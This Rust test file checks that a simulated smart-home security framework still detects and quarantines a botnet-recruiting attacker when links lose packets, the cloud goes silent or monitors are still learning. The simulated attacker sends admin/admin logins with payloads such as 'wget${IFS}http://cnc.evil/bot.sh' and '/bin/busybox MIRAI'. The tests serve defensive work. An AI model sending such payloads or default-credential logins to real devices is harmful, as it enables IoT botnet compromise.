//! Failure-injection tests: XLF must keep working when the substrate
//! degrades — lossy radios, a silent cloud, monitors that never finished
//! learning.

use xlf::core::alerts::Severity;
use xlf::core::framework::{HomeDevice, XlfConfig, XlfHome};
use xlf::device::{SensorKind, VulnSet, Vulnerability};
use xlf::simnet::{Body, Context, Duration, Medium, Node, NodeId, Packet, SimTime};

struct Recruiter {
    gateway: NodeId,
}
impl Node for Recruiter {
    fn on_start(&mut self, ctx: &mut Context<'_>) {
        ctx.set_timer(Duration::from_secs(180), 1);
    }
    fn on_timer(&mut self, ctx: &mut Context<'_>, tag: u64) {
        if tag == 1 {
            // Retry the recruitment a few times — radios drop packets.
            for i in 0..5u64 {
                let (device, user, pass) = (Some("cam".into()), "admin", "admin");
                let body = Body::Login { device, user, pass };
                let payload = b"wget${IFS}http://cnc.evil/bot.sh".to_vec();
                let login = Packet::new(ctx.id(), self.gateway, body, payload);
                ctx.send_after(self.gateway, login, Duration::from_secs(i));
            }
        }
    }
}

/// Builds the standard botnet home but with a configurable loss rate on
/// every link (replacing XlfHome's lossless defaults).
fn lossy_home(loss: f64) -> XlfHome {
    let devices = [
        HomeDevice::new("thermo", SensorKind::Temperature),
        HomeDevice::new("cam", SensorKind::Camera)
            .with_vulns(VulnSet::of(&[Vulnerability::StaticPassword])),
    ];
    let mut home = XlfHome::build(7, XlfConfig::full(), &devices);
    // Re-link everything with loss.
    for &dev in home.devices.values() {
        home.net
            .connect(home.gateway, dev, Medium::Zigbee.link().with_loss(loss));
    }
    home.net
        .connect(home.gateway, home.cloud, Medium::Wan.link().with_loss(loss));
    let attacker = home.net.add_node(Box::new(Recruiter {
        gateway: home.gateway,
    }));
    home.net
        .connect(attacker, home.gateway, Medium::Wan.link().with_loss(loss));
    home
}

#[test]
fn detection_survives_five_percent_packet_loss() {
    let mut home = lossy_home(0.05);
    home.net.run_until(SimTime::from_secs(420));
    let core = home.core.borrow();
    assert!(
        core.alerts.has_alert("cam", Severity::Warning),
        "loss must not blind the framework: evidence = {}",
        core.store.len()
    );
    // And the lossy benign device raises nothing.
    assert!(!core.alerts.has_alert("thermo", Severity::Warning));
}

#[test]
fn heavy_loss_degrades_gracefully_without_panics_or_false_positives() {
    let mut home = lossy_home(0.4);
    home.net.run_until(SimTime::from_secs(420));
    let core = home.core.borrow();
    // No guarantees of detection at 40% loss — but never a false positive
    // on the healthy device, and no crash.
    assert!(!core.alerts.has_alert("thermo", Severity::Warning));
}

#[test]
fn gateway_keeps_enforcing_when_the_cloud_goes_silent() {
    // Cut the cloud link entirely after learning: local mechanisms
    // (DPI, monitors, quarantine) are gateway-resident and keep working.
    let devices = [HomeDevice::new("cam", SensorKind::Camera)
        .with_vulns(VulnSet::of(&[Vulnerability::StaticPassword]))];
    let mut home = XlfHome::build(7, XlfConfig::full(), &devices);
    // "Sever" the WAN by making it lose everything.
    home.net.connect(
        home.gateway,
        home.cloud,
        Medium::Wan.link().with_loss(0.999),
    );
    let attacker = home.net.add_node(Box::new(Recruiter {
        gateway: home.gateway,
    }));
    home.net
        .connect(attacker, home.gateway, Medium::Wan.link().with_loss(0.0));
    home.net.run_until(SimTime::from_secs(420));
    assert!(
        home.gateway_ref().nac.is_quarantined("cam"),
        "edge-resident enforcement must not depend on the cloud"
    );
}

#[test]
fn attack_during_learning_window_is_still_contained_by_dpi() {
    // The attacker strikes *before* the monitors finish learning: the DFA
    // is silent, but DPI (signature-based, no learning) still fires and
    // the device-layer compromise report corroborates.
    let devices = [HomeDevice::new("cam", SensorKind::Camera)
        .with_vulns(VulnSet::of(&[Vulnerability::StaticPassword]))];
    let mut config = XlfConfig::full();
    config.learning_period = Duration::from_secs(3600); // never finishes here
    let mut home = XlfHome::build(7, config, &devices);
    struct EarlyAttacker {
        gateway: NodeId,
    }
    impl Node for EarlyAttacker {
        fn on_start(&mut self, ctx: &mut Context<'_>) {
            ctx.set_timer(Duration::from_secs(30), 1);
        }
        fn on_timer(&mut self, ctx: &mut Context<'_>, _tag: u64) {
            let (device, user, pass) = (Some("cam".into()), "admin", "admin");
            let body = Body::Login { device, user, pass };
            let payload = b"/bin/busybox MIRAI".to_vec();
            let login = Packet::new(ctx.id(), self.gateway, body, payload);
            ctx.send(self.gateway, login);
        }
    }
    let attacker = home.net.add_node(Box::new(EarlyAttacker {
        gateway: home.gateway,
    }));
    home.net
        .connect(attacker, home.gateway, Medium::Wan.link().with_loss(0.0));
    home.net.run_until(SimTime::from_secs(120));
    let core = home.core.borrow();
    assert!(
        core.store
            .all()
            .iter()
            .any(|e| e.kind == xlf::core::EvidenceKind::DpiMatch),
        "DPI needs no learning window"
    );
    assert!(core.alerts.has_alert("cam", Severity::Warning));
}
